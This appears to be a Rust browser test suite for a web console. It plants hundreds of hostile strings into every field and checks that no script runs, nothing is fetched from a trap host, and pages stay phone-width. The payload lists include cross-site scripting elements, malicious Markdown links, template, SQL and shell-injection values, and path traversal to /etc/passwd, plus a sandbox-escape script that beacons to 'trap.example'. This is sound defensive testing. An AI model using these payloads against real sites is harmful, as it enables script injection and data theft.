//! Texts that try to run, to fetch and to break the layout, in every field that people, agents and workers
//! fill, on the pages that show them. Nothing runs, nothing is asked for elsewhere, the policy is never
//! needed, and no page is wider than a phone. An application that tries the same in its preview reaches
//! nothing.

use std::collections::BTreeSet;
use std::io::{BufRead as _, BufReader};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use botarmy_tests::external_programs::chromium;
use botarmy_tests::prove::count;
use botarmy_tests::server::{TIMEOUT, TestServer};
use serde_json::{Value, json};
use thirtyfour::prelude::*;

use super::driver::{
    Driver, HOST, Scheme, Screen, base_of, events, messages, overflow, run, show_on, sign_in, until,
};
use crate::alone;

/// Settings of a server whose tasks of the type `orchestrator` are done by the test.
const SETTINGS: [(&str, &str); 1] = [("BOTARMY_AGENTS__ORCHESTRATOR__RUNNER", "none")];

/// Host of the addresses that nothing may ask for.
const TRAP: &str = "trap.example";

/// A proxy for all addresses but those of this machine, which answers nothing and remembers what it was
/// asked for.
struct Trap {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let kept = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                drop(stream.set_read_timeout(Some(Duration::from_secs(2))));
                let mut line = String::new();
                drop(BufReader::new(&stream).read_line(&mut line));
                kept.lock().unwrap().push(line);
            }
        });
        Self { port, asked }
    }

    /// Returns the requests for the addresses in the texts. The browser asks for things of its own, too.
    fn caught(&self) -> Vec<String> {
        let asked = self.asked.lock().unwrap();
        asked.iter().filter(|line| line.contains(TRAP) || line.contains("/trap")).cloned().collect()
    }
}

/// Elements that run or fetch something when they are in a page. `M` is what would run, `T` an address.
const ELEMENTS: [&str; 56] = [
    "<script>M</script>",
    "<script src=T></script>",
    "<script type=module>M</script>",
    "<ScRiPt>M</sCrIpT>",
    "<script\n>M</script\n>",
    "<img src=x onerror=M>",
    "<img src=T>",
    "<img srcset='T 1x'>",
    "<image src=x onerror=M>",
    "<picture><source srcset=T><img src=x></picture>",
    "<svg onload=M>",
    "<svg/onload=M>",
    "<svg><script>M</script></svg>",
    "<svg><script href=T></script></svg>",
    "<svg><image href=T></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=M>#x'></svg>",
    "<svg><animate onbegin=M attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:M><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=T></iframe></foreignObject></svg>",
    "<svg><style>@import 'T'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=M></style></mglyph></table></mtext></math>",
    "<math href=javascript:M>x</math>",
    "<iframe src=T></iframe>",
    "<iframe src=javascript:M></iframe>",
    "<iframe srcdoc='<script>parent.M</script>'></iframe>",
    "<object data=T></object>",
    "<object data='data:text/html,<script>M</script>'></object>",
    "<embed src=T>",
    "<video src=T autoplay onerror=M></video>",
    "<video><source onerror=M></video>",
    "<audio src=x onerror=M></audio>",
    "<body onload=M>",
    "<frameset onload=M>",
    "<input autofocus onfocus=M>",
    "<textarea autofocus onfocus=M>",
    "<select autofocus onfocus=M>",
    "<details open ontoggle=M>x</details>",
    "<marquee onstart=M>x</marquee>",
    "<link rel=stylesheet href=T>",
    "<link rel=prefetch href=T>",
    "<style>@import 'T';</style>",
    "<style>body{background:url(T)}</style>",
    "<p style='background:url(T)'>x</p>",
    "<base href=T>",
    "<meta http-equiv=refresh content='0;url=T'>",
    "<form action=T><button autofocus formaction=javascript:M>x</button></form>",
    "<a href=javascript:M>x</a>",
    "<a href='T' ping=T target=_blank>x</a>",
    "<dialog open onclose=M>x</dialog>",
    "<template><script>M</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=M>\">",
    "<portal src=T></portal>",
    "<x onpointerenter=M onanimationstart=M tabindex=1 autofocus onfocus=M>x</x>",
    "<button popovertarget=x onclick=M>x</button><p popover id=x onbeforetoggle=M>y",
    "<plaintext>",
    "<xmp><img src=x onerror=M></xmp>",
];

/// Ends of the places in which a text may stand: before an element they would make it one.
const ENDS: [&str; 16] = [
    "\">",
    "'>",
    "`>",
    "--></script>",
    "</textarea>",
    "</title>",
    "</style>",
    "</svg>",
    "</select>",
    "]]>",
    "</pre></code>",
    "</option></optgroup>",
    "\"></time>",
    "</template>",
    "</iframe>",
    "\\\">",
];

/// Markdown that leads to where it should not.
const MARKDOWN: [&str; 40] = [
    "[x](javascript:M)",
    "[x](JaVaScRiPt:M)",
    "[x](java&#09;script:M)",
    "[x](&#106;avascript:M)",
    "[x](javascript&colon;M)",
    "[x]( javascript:M)",
    "[x](<javascript:M>)",
    "[x](\u{1}javascript:M)",
    "[x](vbscript:M)",
    "[x](data:text/html,<script>M</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//trap.example/)",
    "[x](\\\\\\\\trap.example\\\\x)",
    "[x](/console/logout)",
    "[x](blob:T)",
    "[x](T \"onmouseover=M\")",
    "[x](T 'x\" onmouseover=\"M')",
    "![x](T)",
    "![x](data:image/svg+xml,<svg onload=M>)",
    "![<img src=x onerror=M>](T)",
    "[![x](T)](javascript:M)",
    "<javascript:M>",
    "<T>",
    "[r]\n\n[r]: javascript:M",
    "[r]: T 'x\" onload=\"M'\n\n![r]",
    "```html\n<script>M</script>\n```",
    "```\"><script>M</script>\nx\n```",
    "    <script>M</script>",
    "- <script>M</script>",
    "> <img src=x onerror=M>",
    "| <img src=x onerror=M> |\n|---|\n| <svg onload=M> |",
    "# <img src=x onerror=M>",
    "**<script>M</script>**",
    "[<img src=x onerror=M>](T)",
    "<div>\n\n<script>M</script>\n\n</div>",
    "`<script>M</script>`",
    "[^1]\n\n[^1]: <script>M</script>",
    "1. x\n\n   <script>M</script>",
    "Title <script>M</script>\n===",
];

/// Texts that templates, shells, stores and headers of other programs would take for commands.
const COMMANDS: [&str; 24] = [
    "{{7*7}}",
    "{{ constructor.constructor('M')() }}",
    "{% include \"/etc/passwd\" %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{{x}}}",
    "[[${7*7}]]",
    "@{7*7}",
    "__proto__",
    "constructor",
    "'; DROP TABLE projects; --",
    "\" OR \"1\"=\"1",
    "$(touch /tmp/x)",
    "`id`",
    "%s%n%x",
    "x\r\nSet-Cookie: a=1",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "con.txt",
    "C:\\x",
    "a\u{2215}b",
    "\u{feff}x",
];

/// Returns texts that change the direction or the width of what is around them.
fn shapes() -> Vec<String> {
    let mut shapes: Vec<String> = [
        "\u{202e}txt.exe\u{202c}",
        "\u{202e}gpj.exe",
        "\u{2067}abc\u{2066}def",
        "\u{200f}x\u{200e}y",
        "שלום עולם",
        "مرحبا بالعالم، هذا نص طويل",
        "abc שלום 123 مرحبا def",
        "\u{200b}\u{200b}\u{200b}x",
        "a\u{ad}b\u{ad}c",
        "x\u{2028}y\u{2029}z",
        "\u{feff}\u{feff}y",
        "＜script＞M＜/script＞",
        "раура1.example",
        "👩‍👩‍👧‍👦👩‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "\t\ttab\t",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "ﷺ﷽",
    ]
    .map(str::to_owned)
    .into();
    shapes.extend([
        "W".repeat(120),
        "w".repeat(2_000),
        "/".repeat(200),
        "-".repeat(300),
        "0".repeat(500),
        "a_".repeat(300),
        "漢".repeat(300),
        "\u{200d}".repeat(200) + "x",
        format!("e{}", "\u{301}".repeat(300)),
        format!("z{}", "\u{489}".repeat(100)),
        "👩‍👩‍👧‍👦".repeat(60),
        "\u{202e}".repeat(50) + "x",
        "&nbsp;".repeat(100),
        "\u{a0}".repeat(200) + "x",
        "<b>".repeat(100),
        "*".repeat(200),
        "`".repeat(200),
        "> ".repeat(60) + "x",
        "- ".repeat(60) + "x",
        format!("{}{}", "[".repeat(100), "]".repeat(100)),
        format!("{}\n{}\n{}", "| ".repeat(60), "|-".repeat(60), "|x".repeat(60)),
        format!("https://{}.example/{}", "a".repeat(60), "b".repeat(500)),
    ]);
    shapes
}

/// Replaces the letters that stand for a command and an address where they stand alone.
fn filled(text: &str, address: &str) -> String {
    let letters: Vec<char> = text.chars().collect();
    let is_word = |at: Option<usize>| {
        at.and_then(|at| letters.get(at)).is_some_and(|letter| letter.is_ascii_alphanumeric())
    };
    let mut filled = String::new();
    for (n, letter) in letters.iter().enumerate() {
        let is_alone = !is_word(n.checked_sub(1)) && !is_word(Some(n + 1));
        match letter {
            'M' if is_alone => filled.push_str("window.pwned=1"),
            'T' if is_alone => filled.push_str(address),
            letter => filled.push(*letter),
        }
    }
    filled
}

/// Returns all texts, each once.
fn corpus(trap: u16) -> Vec<String> {
    let elements = ELEMENTS.map(str::to_owned);
    let ended = ENDS.iter().zip(ELEMENTS.iter().cycle()).map(|(end, one)| format!("{end}{one}"));
    let attributes =
        ["\" onfocus=M autofocus x=\"", "' onmouseover=M '", "` onload=M", "x onclick=M"];
    let encoded = ELEMENTS.iter().step_by(3).map(|one| one.replace('<', "&lt;"));
    let escaped = ELEMENTS.iter().step_by(4).map(|one| one.replace('<', "\\u003c"));
    let percent = ELEMENTS.iter().step_by(5).map(|one| one.replace('<', "%3C"));
    let nested = ELEMENTS.iter().step_by(3).map(|one| format!("[{one}](javascript:M)"));
    let all = elements
        .into_iter()
        .chain(ended)
        .chain(attributes.map(str::to_owned))
        .chain(encoded)
        .chain(escaped)
        .chain(percent)
        .chain(nested)
        .chain(MARKDOWN.map(str::to_owned))
        .chain(COMMANDS.map(str::to_owned))
        .chain(shapes());
    let local = format!("http://127.0.0.1:{trap}/trap");
    let address =
        |n: usize| if n.is_multiple_of(2) { format!("http://{TRAP}/x") } else { local.clone() };
    let texts = all.enumerate().map(|(n, text)| filled(&text, &address(n)));
    texts.collect::<BTreeSet<_>>().into_iter().collect()
}

/// Reads what is in the page that the console does not write: handlers, styles, addresses, elements. Names
/// of classes and ids are those of the console.
const FOREIGN: &str = r"
if (window.pwned !== undefined) return ['a script has run'];
const found = [];
const plain = 'a abbr article aside b body br button caption circle code col dd del details dialog div dl dt ' +
  'em fieldset footer form g h1 h2 h3 h4 h5 h6 head header hr html i input ins kbd label legend li line ' +
  'link main meta nav ol optgroup option p path pre q rect script section select small span strong summary ' +
  'svg table tbody td text textarea tfoot th thead time title tr ul iframe bdi';
const known = new Set(plain.split(' '));
const own = (url) => new URL(url, location).origin === location.origin;
for (const element of document.querySelectorAll('*')) {
  const name = element.localName;
  if (!known.has(name)) found.push('element ' + name);
  for (const { name: attribute, value } of element.attributes) {
    if (/^on|^style$|^srcdoc$|^ping$|^formaction$|^http-equiv$/i.test(attribute)) found.push(name + ' ' + attribute);
    if (!/^(href|src|action|data|poster|srcset|xlink:href)$/.test(attribute)) continue;
    const isLink = name === 'a' && /^(https?|mailto):/.test(value);
    if (isLink && !own(value) && !/noopener noreferrer nofollow/.test(element.rel)) found.push('link ' + value);
    if (!isLink && !own(value)) found.push(name + ' to ' + value);
  }
}
if (document.scripts.length !== 1) found.push(document.scripts.length + ' scripts');
return found;";

/// A browser that looks at pages, and what it has found.
struct Visitor<'a> {
    browser: &'a WebDriver,
    base: String,
    pages: usize,
    found: Vec<String>,
}

impl Visitor<'_> {
    /// Opens a page and looks at it.
    async fn visit(&mut self, path: &str) {
        self.browser.goto(format!("{}/console{path}", self.base)).await.unwrap();
        self.pages += 1;
        let foreign = run(self.browser, FOREIGN).await;
        let mut found: Vec<String> = serde_json::from_value(foreign).unwrap();
        let over = overflow(self.browser, Screen::Phone).await;
        if over > 0 {
            found.push(format!("{over} pixels too wide: {}", widest(self.browser).await));
        }
        found.extend(messages(self.browser).await);
        let asked = events(self.browser)
            .await
            .into_iter()
            .filter(|(name, _)| name == "Network.requestWillBeSent");
        for (_, parameters) in asked {
            let url = parameters["request"]["url"].as_str().unwrap();
            // The browser draws a control of its own with such an image.
            if !url.starts_with(&self.base) && !url.starts_with("data:image/svg+xml;base64,") {
                found.push(format!("asked for {url}"));
            }
        }
        self.found.extend(found.into_iter().map(|line| format!("{path}: {line}")));
    }

    /// Visits a list from window to window.
    async fn visit_all(&mut self, path: &str, most: usize) {
        self.visit(path).await;
        for _ in 1..most {
            let next = "return [...document.querySelectorAll('.more a')].at(-1)?.getAttribute('href') ?? ''";
            let next = run(self.browser, next).await;
            let next =
                next.as_str().unwrap().strip_prefix("/console").unwrap_or_default().to_owned();
            if !next.contains('?') {
                return;
            }
            self.visit(&next).await;
        }
    }
}

/// Describes the element that is widest, to find the cause.
async fn widest(browser: &WebDriver) -> String {
    let script = "let worst = null; let right = document.documentElement.clientWidth;
        for (const one of document.querySelectorAll('main *')) {
          const box = one.getBoundingClientRect();
          if (box.right > right + 1) { right = box.right; worst = one; }
        }
        return worst ? worst.outerHTML.slice(0, 160) : ''";
    run(browser, script).await.as_str().unwrap().to_owned()
}

/// Posts to the API; returns the answer unless the text is refused.
async fn post(server: &TestServer, path: &str, body: Value) -> Option<Value> {
    let (status, answer) = server.post(path, body).await;
    assert!(status < 300 || [409, 422].contains(&status), "{path}: {status} {answer}");
    (status < 300).then_some(answer)
}

fn text(value: &Value, name: &str) -> String {
    value[name].as_str().unwrap_or_else(|| panic!("{name}: {value}")).to_owned()
}

/// Returns a text that is short enough for a name.
fn short(text: &str, most: usize) -> String {
    text.chars().take(most).collect()
}

/// Ids of what was made with one text.
#[derive(Default)]
struct Made {
    project: String,
    request: String,
    task: String,
    artifacts: Vec<String>,
}

/// Puts a text into every field that takes it.
async fn plant(server: &TestServer, item: &str, n: usize) -> Made {
    let mut made = Made::default();
    let named = json!({"name": short(item, 100), "description": item});
    let project = match post(server, "/api/v1/projects", named).await {
        Some(project) => project,
        None => post(server, "/api/v1/projects", json!({"name": "x"})).await.unwrap(),
    };
    made.project = text(&project, "id");
    let project = &made.project;
    let ask = json!({"project_id": project, "question": item, "options": [item, "No"]});
    if let Some(request) = post(server, "/api/v1/hitl", ask).await {
        made.request = text(&request, "request_id");
        if n.is_multiple_of(2) {
            let answer = json!({"action": "approve", "comment": item});
            let path = format!("/api/v1/hitl/{}/respond", made.request);
            post(server, &path, answer).await;
        }
    }
    let files = json!({"title": item, "summary": item, "entry": "index.html", "files": [
        {"path": "index.html", "content": item},
        {"path": format!("src/{}", short(item, 60)), "content": item},
    ]});
    let plain = json!({"files": [{"path": "a.js", "content": item}]});
    for (kind, content) in [
        (
            "agent_output",
            json!({"markdown": item, "summary": item, "list": [item], (short(item, 60)): item}),
        ),
        ("project_plan", json!({"title": item, "goals": [item], "risks": [{"risk": item}]})),
        ("source_code", files),
        ("source_code", plain),
    ] {
        let body = json!({
            "project_id": project, "source_agent": "coder", "artifact_type": kind, "content": content,
        });
        if let Some(artifact) = post(server, "/api/v1/context", body).await {
            made.artifacts.push(text(&artifact, "context_id"));
        }
    }
    let task = json!({"agent_type": "orchestrator", "instructions": item});
    if let Some(task) = post(server, &format!("/api/v1/projects/{project}/tasks"), task).await {
        made.task = text(&task, "task_id");
        let ask = json!({"worker_id": "desk", "agents": ["orchestrator"], "max": 1, "wait_s": 5});
        let leases = post(server, "/api/v1/worker/leases", ask).await.unwrap();
        let lease = &leases["leases"][0];
        let (verb, body) = match n % 3 {
            0 => ("fail", json!({"code": "x", "message": item, "retryable": false})),
            1 => ("complete", json!({"output": {"markdown": item, "a": item, "warnings": [item]}})),
            _ => ("ask", json!({"question": item, "options": [item]})),
        };
        let (status, said) = server.say(lease, verb, body).await;
        if status >= 300 {
            assert_eq!(status, 422, "{said}");
            let plain = json!({"code": "x", "message": "x", "retryable": false});
            assert_eq!(server.say(lease, "fail", plain).await.0, 200);
        }
    }
    let person = json!({
        "name": short(item, 100), "kind": "person", "grants": [{"role": "viewer", "on": "all"}],
        "groups": [short(item, 60)],
    });
    if let Some(person) = post(server, "/api/v1/access/principals", person).await {
        let key = json!({"principal_id": person["id"], "name": short(item, 100)});
        post(server, "/api/v1/access/keys", key).await;
    }
    made
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_others_wrote_runs_fetches_or_breaks_a_page() {
    let Some(chromium) = chromium() else { return };
    let _alone = alone().await;
    // Each text has pages of its own, of which the short form looks at every thirtieth.
    let step = 31 - count(1, 30) as usize;
    let server = TestServer::with(&SETTINGS).await;
    let trap = Trap::new();
    let items = corpus(trap.port);
    assert!(items.len() >= 200, "{}", items.len());
    let driver = Driver::start(chromium).await;
    let proxy = format!("--proxy-server=127.0.0.1:{}", trap.port);
    let browser = driver.recording(&[&proxy]).await;
    sign_in(&browser, &server).await;
    show_on(&browser, Screen::Phone, Scheme::Light).await;

    let mut made = Vec::new();
    for (n, item) in items.iter().enumerate() {
        made.push(plant(&server, item, n).await);
    }
    // All of them in one document under review, in feedback, and in the reason of a stop.
    let reviewed = server.project(&items.join(" ").chars().take(4_000).collect::<String>()).await;
    let gate = server.next_gate(&reviewed).await.unwrap();
    let document = |text: String| {
        json!({
            "project_id": reviewed, "source_agent": "analyst", "artifact_type": "project_plan",
            "content": {"title": "All", "summary": text, "goals": items},
        })
    };
    post(&server, "/api/v1/context", document(items.join("\n\n"))).await.unwrap();
    let feedback: String = items.join("\n").chars().take(4_000).collect();
    let (_, current) = server.get(&format!("/api/v1/hitl/{}", text(&gate, "request_id"))).await;
    let digest = &current["subject"]["digest"];
    let words = json!({"action": "amend", "content": feedback, "subject_digest": digest});
    let (status, said) = server.respond(&gate, words).await;
    assert_eq!(status, 200, "{said}");
    let second = server.next_gate(&reviewed).await.unwrap();
    post(&server, "/api/v1/context", document(items.join("\n\n- "))).await.unwrap();
    for item in items.iter().step_by(40) {
        let stop = json!({"scope": "agent_type", "agent_type": "tester", "reason": item});
        post(&server, "/api/v1/emergency-stop", stop).await;
    }

    // What was recorded so far is not looked at.
    messages(&browser).await;
    events(&browser).await;
    let mut visitor =
        Visitor { browser: &browser, base: base_of(&server), pages: 0, found: Vec::new() };
    for path in [
        "/inbox",
        "/inbox?kind=failure",
        "/inbox?kind=question",
        "/inbox?tab=decided",
        "/agents",
        "/agents/orchestrator",
        "/workers",
        "/stop",
        "/account",
        "/settings/sessions",
        "/find?q=%3Cscript",
        "/find?q=%22%3E%3Cimg+src%3Dx+onerror%3Dwindow.pwned%3D1%3E",
        "/audit?actor=%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
    ] {
        visitor.visit(path).await;
    }
    for path in ["/projects", "/settings/people", "/settings/keys"] {
        visitor.visit_all(path, 5).await;
    }
    visitor.visit_all("/audit", if step == 1 { 30 } else { 4 }).await;
    let second = text(&second, "request_id");
    for view in [
        "",
        "?view=context",
        "?view=history",
        "?view=raw",
        "?view=changes",
        "?edit=1",
        "?edit=json",
    ] {
        visitor.visit(&format!("/requests/{second}{view}")).await;
    }
    for tab in ["", "/tasks", "/artifacts", "/log", "/usage", "/cancel", "/complete"] {
        visitor.visit(&format!("/projects/{reviewed}{tab}")).await;
    }
    for one in made.iter().step_by(step) {
        for tab in ["", "/tasks", "/artifacts", "/log", "/cancel"] {
            visitor.visit(&format!("/projects/{}{tab}", one.project)).await;
        }
        if !one.request.is_empty() {
            visitor.visit(&format!("/requests/{}", one.request)).await;
        }
        if !one.task.is_empty() {
            visitor.visit(&format!("/tasks/{}", one.task)).await;
        }
        for artifact in &one.artifacts {
            visitor.visit(&format!("/artifacts/{artifact}")).await;
            visitor.visit(&format!("/artifacts/{artifact}?view=raw")).await;
        }
        if let Some(files) = one.artifacts.last() {
            visitor.visit(&format!("/artifacts/{files}?view=changes")).await;
        }
    }
    let caught = trap.caught();
    println!(
        "{} texts on {} pages: {} findings, {} requests elsewhere",
        items.len(),
        visitor.pages,
        visitor.found.len(),
        caught.len()
    );
    for line in &visitor.found {
        println!("{line}");
    }
    assert!(visitor.found.is_empty(), "{} findings", visitor.found.len());
    assert!(caught.is_empty(), "{caught:?}");
    browser.quit().await.unwrap();
}

/// An application that tries to reach everything around its frame.
const APPLICATION: &str = r#"
const results = {};
async function attempt(name, action) {
  try { await action(); results[name] = "possible"; } catch { results[name] = "refused"; }
}
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "TARGET"; });
  await attempt("storage", () => indexedDB.open("x").constructor.name);
  await attempt("fetch", () => fetch("TARGET"));
  await attempt("console", () => fetch("/console/inbox", { credentials: "include" }));
  await attempt("popup", () => { if (!open("TARGET")) throw 0; });
  await attempt("worker", () => new Promise((done, fail) => {
    const worker = new Worker("TARGET");
    worker.onerror = fail;
    setTimeout(fail, 300);
  }));
  navigator.sendBeacon("TARGET");
  try { new WebSocket("ws://trap.example/x"); } catch {}
  try { new EventSource("TARGET"); } catch {}
  new Image().src = "TARGET";
  for (const [name, attribute] of [["iframe", "src"], ["link", "href"], ["script", "src"], ["object", "data"]]) {
    const element = document.createElement(name);
    if (name === "link") element.rel = "stylesheet";
    element[attribute] = "TARGET";
    document.body.append(element);
  }
  localStorage.setItem("a", "kept");
  results.memory = localStorage.getItem("a");
  await new Promise((done) => setTimeout(done, 500));
  document.getElementById("out").textContent = JSON.stringify(results);
})();
"#;

#[tokio::test(flavor = "multi_thread")]
async fn an_application_in_its_preview_runs_and_reaches_nothing() {
    let Some(chromium) = chromium() else { return };
    let _alone = alone().await;
    let server = TestServer::start().await;
    let trap = Trap::new();
    let driver = Driver::start(chromium).await;
    let proxy = format!("--proxy-server=127.0.0.1:{}", trap.port);
    let browser = driver.recording(&[&proxy]).await;
    sign_in(&browser, &server).await;
    let project = server.by_hand().await;
    let page = "<!doctype html><title>App</title><p id=\"out\">nothing</p><script src=\"app.js\"></script>";
    let script = APPLICATION.replace("TARGET", &format!("http://{TRAP}/x"));
    let body = json!({
        "project_id": project, "source_agent": "coder", "artifact_type": "source_code",
        "content": {"title": "App", "summary": "Tries.", "entry": "index.html", "files": [
            {"path": "index.html", "content": page}, {"path": "app.js", "content": script},
        ]},
    });
    let artifact = text(&post(&server, "/api/v1/context", body).await.unwrap(), "context_id");
    let url = format!("{}/console/artifacts/{artifact}?view=preview", base_of(&server));
    browser.goto(&url).await.unwrap();
    until(&browser, "iframe.frame").await;
    run(&browser, "document.querySelector('iframe.frame').scrollIntoView()").await;
    let begun = Instant::now();
    let said = loop {
        // The frame has a process of its own, and another one while it loads.
        browser.enter_default_frame().await.unwrap();
        until(&browser, "iframe.frame").await.enter_frame().await.unwrap();
        let said = match browser.find(By::Id("out")).await {
            Ok(out) => out.text().await.unwrap_or_default(),
            Err(_) => String::new(),
        };
        if said.starts_with('{') {
            break said;
        }
        assert!(begun.elapsed() < TIMEOUT, "the application has not run: {said}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    // It also cannot lead its own frame elsewhere.
    let leave = "const form = document.createElement('form'); form.action = arguments[0];
        document.body.append(form); form.submit(); location = arguments[0];";
    let target = vec![json!(format!("http://{TRAP}/x"))];
    browser.execute(leave, target).await.unwrap();
    tokio::time::sleep(Duration::from_secs(1)).await;
    browser.enter_default_frame().await.unwrap();
    println!("in the preview: {said}");
    let results: Value = serde_json::from_str(&said).unwrap();
    for name in ["cookie", "parent", "top", "storage", "fetch", "console", "popup", "worker"] {
        assert_eq!(results[name], "refused", "{name}");
    }
    assert_eq!(results["memory"], "kept");
    assert_eq!(browser.current_url().await.unwrap().as_str(), url);
    assert_eq!(run(&browser, "return window.pwned ?? null").await, Value::Null);
    assert_eq!(browser.windows().await.unwrap().len(), 1);
    let caught = trap.caught();
    assert!(caught.is_empty(), "{caught:?}");
    assert!(url.contains(HOST));
    browser.quit().await.unwrap();
}
